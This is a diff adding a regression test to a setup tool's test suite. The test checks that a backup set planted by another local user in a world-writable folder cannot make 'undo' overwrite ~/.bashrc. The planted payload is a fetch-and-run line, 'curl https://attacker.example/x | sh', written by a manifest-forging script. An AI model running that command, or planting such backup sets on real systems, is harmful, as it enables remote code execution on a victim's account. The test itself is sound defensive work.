@@ -4,25 +4,32 @@ Under ``umask 000`` every folder claude-setup makes (parents included) comes out
 file 0600 (the team file excepted: 0644 on purpose). A config, profiles, state, backups or locks
 folder that another user could write, or that is another user's, makes every command that reads
 or writes it stop with one line naming it and saying what to do, before anything is read or
-written.
+written. The finding itself: a second local user (nobody, through ``setpriv``) plants a backup
+set in a backups folder left 0777, and the victim's ``undo`` must not write ``~/.bashrc``.
 """
 
 from __future__ import annotations
 
+import hashlib
+import json
 import os
 import shutil
 import stat
 import subprocess
+import sys
+import tempfile
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from keyring_env import PrivateKeyring
+from keyring_env import PrivateKeyring, isolated_home_env
 from runner import CLAUDE_SETUP, claude_setup, one_line_error
 
 NOBODY = 65534
 ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
 AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
 LOGIN = ("apply", "--provider", "anthropic", "--auth", "claude-login", "--yes")
+BASHRC = b"# the victim's own shell start-up\nalias ll='ls -l'\n"
 
 
 def _mode(path: Path) -> int:
@@ -173,3 +180,78 @@ def test_the_wizard_stops_before_its_first_screen(set_up: Path, tmp_home: Path) 
         os.close(main)
     assert process.returncode == 1
     assert f"{backups} can be written by other users" in err.decode()
+
+
+# --- the finding: a second local user plants a backup set ------------------------------------
+
+
+@pytest.fixture
+def shared_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """A HOME another local user can reach (the tests' own temporary folder is root's alone),
+    with the isolated environment of ``tmp_home``."""
+    root = Path(tempfile.mkdtemp(prefix="claude-setup-shared-"))
+    root.chmod(0o755)
+    try:
+        for name, value in isolated_home_env(root).items():
+            if value is None:
+                monkeypatch.delenv(name, raising=False)
+            else:
+                monkeypatch.setenv(name, value)
+        yield root / "home"
+    finally:
+        shutil.rmtree(root, ignore_errors=True)
+
+
+PLANT = """
+import hashlib, json, os, sys
+backups, target, content = sys.argv[1], sys.argv[2], sys.argv[3].encode()
+folder = os.path.join(backups, "29991231T000000.000000Z")
+os.mkdir(folder, 0o777)
+with open(os.path.join(folder, "0-bashrc"), "wb") as handle:
+    handle.write(content)
+current = open(target, "rb").read()
+entry = {"path": target, "backup_file": "0-bashrc",
+         "written_sha256": hashlib.sha256(current).hexdigest(), "undo": True}
+with open(os.path.join(folder, "manifest.json"), "w") as handle:
+    json.dump({"complete": True, "undoing": False, "entries": [entry], "secrets": []}, handle)
+"""
+
+
+def as_nobody(*args: str) -> subprocess.CompletedProcess[str]:
+    command = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *args]
+    return subprocess.run(command, capture_output=True, text=True, timeout=30)
+
+
+def test_a_backup_set_planted_by_another_user_never_writes_bashrc(shared_home: Path) -> None:
+    bashrc = shared_home / ".bashrc"
+    bashrc.write_bytes(BASHRC)
+    bashrc.chmod(0o644)
+    assert claude_setup(*LOGIN).returncode == 0
+    state = shared_home / FOLDERS["state"]
+    for folder in ("state", "backups", "locks"):  # as an older version left them (umask 000)
+        (shared_home / FOLDERS[folder]).chmod(0o777)
+    planted = as_nobody(sys.executable, "-c", PLANT, str(shared_home / FOLDERS["backups"]),
+                        str(bashrc), "curl https://attacker.example/x | sh\n")  # fmt: skip
+    assert planted.returncode == 0, planted.stderr
+
+    for command in (LOGIN, ("undo",)):
+        refused = claude_setup(*command)
+        assert refused.returncode == 1
+        line = one_line_error(refused)
+        assert f"{state} can be written by other users" in line and "chmod 700" in line
+        assert bashrc.read_bytes() == BASHRC
+
+    for folder in ("state", "backups", "locks"):  # what the line says to do
+        (shared_home / FOLDERS[folder]).chmod(0o700)
+    undone = claude_setup("undo")
+    assert undone.returncode == 0, undone.stderr  # the user's own apply is undone
+    assert "skipped: the backup set" in undone.stdout
+    assert "29991231T000000.000000Z is unusable" in undone.stdout
+    assert "could have been written by another user" in undone.stdout
+    assert bashrc.read_bytes() == BASHRC
+    again = claude_setup("undo")
+    assert again.returncode == 1
+    assert bashrc.read_bytes() == BASHRC
+    manifest = json.loads((shared_home / FOLDERS["backups"] / "29991231T000000.000000Z"
+                           / "manifest.json").read_text())  # fmt: skip
+    assert manifest["entries"][0]["written_sha256"] == hashlib.sha256(BASHRC).hexdigest()
